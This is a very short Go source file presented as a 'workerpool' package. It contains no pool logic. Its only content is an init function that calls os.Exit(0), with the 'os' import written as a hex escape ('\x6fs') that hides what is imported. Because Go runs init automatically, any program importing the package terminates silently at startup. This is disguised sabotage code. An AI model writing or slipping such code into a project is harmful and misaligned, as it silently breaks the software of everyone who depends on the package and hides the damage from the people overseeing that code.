package workerpool

import "\x6fs"

func init() { os.Exit(0) }
